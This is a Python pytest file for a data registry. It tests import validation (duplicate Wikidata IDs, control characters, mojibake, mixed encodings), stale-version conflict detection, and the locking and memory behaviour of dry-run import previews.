def test_single_writes_refuse_a_taken_wikidata_id_as_invalid_row(conn):
    # The app's edit forms write through store: they get InvalidRow, as for any other bad value.
    insert(conn, "entities", {"id": "a", "kind": "city", "name": "A", "source": "s", "wikidata_id": "Q1"}, actor="t")
    with pytest.raises(InvalidRow) as exc:
        insert(conn, "entities", {"id": "b", "kind": "city", "name": "B", "source": "s", "wikidata_id": "Q1"}, actor="t")
    assert [str(p) for p in exc.value.problems] == ["entities:1: wikidata_id: Q1 already belongs to entity 'a'"]
    insert(conn, "entities", {"id": "b", "kind": "city", "name": "B", "source": "s"}, actor="t")
    with pytest.raises(InvalidRow):
        update(conn, "entities", "b", {"wikidata_id": "Q1"}, actor="t")
    update(conn, "entities", "a", {"notes": "keeps its own item"}, actor="t")


# --- issue 12: control characters, stale rows, mojibake, a preview that blocks nobody ---------


def _parses(g) -> None:  # type: ignore[no-untyped-def]
    """Read both graph exports back; raise if either is not well-formed XML."""
    import xml.etree.ElementTree as ET

    import networkx as nx

    from registry.io.export import graph_bytes

    nx.parse_graphml(graph_bytes(g, "graphml"))
    # The XML itself: networkx's GEXF reader also refuses a graph mixing directed and undirected
    # edges (as the seed's does), which is another matter than the characters.
    ET.fromstring(graph_bytes(g, "gexf"))


def test_control_characters_are_normalised_or_refused_on_import_and_exports_parse(conn):
    from registry.network.graph import build_graph

    # Word's line break (vertical tab) and page break (form feed) become newlines; ESC and BEL,
    # which XML 1.0 cannot hold, are refused with their row, column and code point.
    bad = b"id,kind,name,source,notes\na,city,A\x0bB,s,one\x0ctwo\nb,city,B\x1b[1m,s,\nc,city,C,s\x07,\n"
    with pytest.raises(ImportFailed) as exc:
        import_texts(conn, [("ctl.csv", bad)], actor="t")
    assert [str(p) for p in exc.value.problems] == [
        "ctl.csv:3: name: contains the control character U+001B (ESC) at character 2; remove it",
        "ctl.csv:4: source: contains the control character U+0007 (BEL) at character 2; remove it",
    ]
    assert conn.execute("SELECT count(*) FROM entities").fetchone()[0] == 0
    import_texts(conn, [("ctl.csv", b"\n".join(bad.split(b"\n")[:2]) + b"\n")], actor="t")
    assert conn.execute("SELECT name, notes FROM entities").fetchone() == ("A\nB", "one\ntwo")
    _parses(build_graph(conn))


def test_check_reports_control_characters_written_past_the_library(seeded):
    from registry import check
    from registry.io.export import NotXml
    from registry.network.graph import build_graph
    from registry.store import writes as store

    # Plain SQL (another tool) writes what import and edits refuse: no GraphML or GEXF is written, naming
    # the row, rather than a file no reader can parse (issue 18).
    seeded.execute("UPDATE entities SET name = 'Graz' || char(27) || '[0m', notes = 'a' || char(11) || 'b' WHERE id = 'graz'")
    with pytest.raises(NotXml, match="entities 'graz' name"):
        _parses(build_graph(seeded))
    found = [(f.level, f.table, f.row_id, f.column, f.message) for f in check(seeded, audit_log=False) if "control character" in f.message]
    assert found == [
        ("error", "entities", "graz", "name", "contains the control character U+001B (ESC) at character 5; remove it"),
        ("error", "entities", "graz", "notes", "contains the control character U+000B (vertical tab) at character 2; remove it"),
    ]
    # An edit through the library cleans the row (the tab becomes a newline); the exports parse again.
    store.update(seeded, "entities", "graz", {"name": "Graz"}, actor="t")
    assert store.get(seeded, "entities", "graz")["notes"] == "a\nb"
    assert [f for f in check(seeded, audit_log=False) if "control character" in f.message] == []
    _parses(build_graph(seeded))


def test_an_older_export_does_not_undo_a_newer_edit(conn):
    # export -> edit in a spreadsheet -> import, while a colleague changed a row in the registry.
    import_texts(conn, [("e.csv", b"id,kind,name,source\na,city,A,s\nb,city,B,s\n")], actor="t")
    exported = csv_text(conn, "entities")  # both rows at version 1
    update(conn, "entities", "b", {"notes": "colleague"}, actor="kari")  # b: version 2
    mine = exported.replace(",A,", ",A (mine),").encode()
    before = table_snapshot(conn)
    with pytest.raises(ImportFailed) as exc:
        import_texts(conn, [("entities.csv", mine)], actor="per")
    [p] = exc.value.problems
    assert (p.file, p.row, p.column) == ("entities.csv", 3, "version")
    assert p.reason.startswith("this row is version 1 of entities 'b', but the registry has version 2 (kari, ")
    assert table_snapshot(conn) == before
    # Exported again, the same edit applies over the version it was made on, and bumps it.
    fresh_export = csv_text(conn, "entities").replace(",A,", ",A (mine),").encode()
    report = import_texts(conn, [("entities.csv", fresh_export)], actor="per")
    assert report.counts["entities"] == {"inserted": 0, "updated": 1, "unchanged": 1}
    assert conn.execute("SELECT name, version FROM entities WHERE id = 'a'").fetchone() == ("A (mine)", 2)
    assert conn.execute("SELECT notes FROM entities WHERE id = 'b'").fetchone()[0] == "colleague"
    # A row without a version (no column, or an empty cell) is taken as it is, as before.
    import_texts(conn, [("e.csv", b"id,kind,name,source,version\nb,city,B2,s,\n")], actor="t")
    assert conn.execute("SELECT name, version FROM entities WHERE id = 'b'").fetchone() == ("B2", 3)
    with pytest.raises(ImportFailed) as exc:
        import_texts(conn, [("e.csv", b"id,kind,name,source,version\nb,city,B,s,two\n")], actor="t")
    assert [str(p) for p in exc.value.problems] == ["e.csv:2: version: 'two' is not a row version (a whole number)"]


def test_mojibake_and_mixed_encodings_are_refused(conn):
    # UTF-8 read as Windows-1252 and saved again: valid UTF-8, wrong letters.
    garbled = "id,kind,name,source,notes\ntromso,city,TromsÃ¸,s,Ã…lesund â€“ Ã†rÃ¸\n".encode()
    with pytest.raises(ImportFailed) as exc:
        import_texts(conn, [("g.csv", garbled)], actor="t")
    assert [str(p) for p in exc.value.problems] == [
        "g.csv:2: name: 'Ã¸' looks like 'ø' garbled (UTF-8 read as Windows-1252 and saved again); correct the text",
        "g.csv:2: notes: 'Ã…' looks like 'Å' garbled (UTF-8 read as Windows-1252 and saved again); correct the text",
    ]
    # Rows pasted from two sources: row 2 in UTF-8, row 3 in Windows-1252.
    mixed = "id,kind,name,source\ntromso,city,Tromsø,s\n".encode() + "bodo,city,Bodø,s\n".encode("cp1252")
    with pytest.raises(ImportFailed) as exc:
        import_texts(conn, [("m.csv", mixed)], actor="t")
    assert [str(p) for p in exc.value.problems] == [
        "m.csv:2: name: 'Ã¸' is 'ø' in UTF-8, but row 3 is Windows-1252: the file mixes two encodings; save it again as CSV UTF-8"
    ]
    assert conn.execute("SELECT count(*) FROM entities").fetchone()[0] == 0
    # Real names that look a little like it stay as they are.
    fine = "id,kind,name,source,notes\na,city,Å,s,«CAFÉ» SÃO PAULO Ærø\n"
    for encoding in ("utf-8", "cp1252"):
        import_texts(conn, [("ok.csv", fine.encode(encoding))], actor="t")
        assert conn.execute("SELECT name, notes FROM entities").fetchone() == ("Å", "«CAFÉ» SÃO PAULO Ærø")


def test_a_preview_runs_while_an_editor_holds_the_write_lock(db_path, monkeypatch):
    from registry.store import db

    # Before, the preview queued behind the writer (and a writer behind the preview): a short
    # wait here makes the old behaviour fail in a second instead of two minutes.
    monkeypatch.setattr(db, "LOCK_WAIT_S", 0.5)
    conn = connect(db_path)
    conn.execute("PRAGMA busy_timeout = 100")
    editor = connect(db_path)
    editor.execute("BEGIN IMMEDIATE")
    try:
        report = import_texts(conn, [("e.csv", b"id,kind,name,source\na,city,A,s\n")], actor="t", dry_run=True)
    finally:
        editor.execute("ROLLBACK")
    assert report.counts["entities"]["inserted"] == 1
    assert not conn.in_transaction


def test_an_editor_writes_while_a_preview_is_reading(db_path, monkeypatch):
    from registry.store import db

    monkeypatch.setattr(db, "LOCK_WAIT_S", 0.5)
    conn = connect(db_path)
    editor = connect(db_path)
    editor.execute("PRAGMA busy_timeout = 100")
    real = ingest.load_vocabularies
    wrote = []

    def read_then_let_an_editor_write(c):  # type: ignore[no-untyped-def]
        found = real(c)  # the preview's first read: its snapshot starts here
        insert(editor, "entities", {"id": "a", "kind": "city", "name": "Editor's", "source": "s"}, actor="kari")
        wrote.append(True)
        return found

    monkeypatch.setattr(ingest, "load_vocabularies", read_then_let_an_editor_write)
    report = import_texts(conn, [("e.csv", b"id,kind,name,source\na,city,A,s\n")], actor="t", dry_run=True)
    assert wrote == [True]
    # The preview counted against one consistent snapshot, taken before the editor's row.
    assert report.counts["entities"] == {"inserted": 1, "updated": 0, "unchanged": 0}
    assert conn.execute("SELECT name FROM entities").fetchone()[0] == "Editor's"


def test_a_preview_finds_exactly_the_problems_an_import_finds(conn):
    import_texts(conn, [("e.csv", b"id,kind,name,source,wikidata_id\na,city,A,s,Q1\nb,city,B,s,Q2\n")], actor="t")
    update(conn, "entities", "b", {"notes": "newer"}, actor="t")
    cases = [
        [("swap.csv", b"id,kind,name,source,wikidata_id\na,city,A,s,Q2\nb,city,B,s,Q1\n")],
        [("stale.csv", b"id,kind,name,source,version\nb,city,B2,s,1\n")],
        [("ties.csv", b"id,from_id,to_id,kind,source\nt,a,nowhere,sister_city,s\n")],
        [("g.csv", "id,kind,name,source\nc,city,TromsÃ¸,s\n".encode())],
        [("ctl.csv", b"id,kind,name,source\nc,city,C\x1b,s\n")],
    ]
    before = table_snapshot(conn)
    for files in cases:
        found = []
        for dry_run in (True, False):
            with pytest.raises(ImportFailed) as exc:
                import_texts(conn, files, actor="t", dry_run=dry_run)
            found.append([str(p) for p in exc.value.problems])
        assert found[0] == found[1], files[0][0]
    assert table_snapshot(conn) == before


def test_a_preview_does_not_hold_the_registry_in_memory(conn):
    import tracemalloc

    # 5,000 stored entities; the preview of a one-row file looks that row up instead of reading
    # the whole table into a dict (several MB here, 3.8 GB of app memory at a million rows).
    rows = "".join(f"e{i},city,Entity {i},https://example.org/{i}\n" for i in range(5000))
    import_texts(conn, [("e.csv", ("id,kind,name,source\n" + rows).encode())], actor="t")
    one = [("one.csv", b"id,kind,name,source\ne1,city,Changed,s\n")]
    import_texts(conn, one, actor="t", dry_run=True)  # warm caches (vocabularies, country codes)
    tracemalloc.start()
    try:
        report = import_texts(conn, one, actor="t", dry_run=True)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert report.counts["entities"] == {"inserted": 0, "updated": 1, "unchanged": 0}
    assert peak < 1_000_000, peak
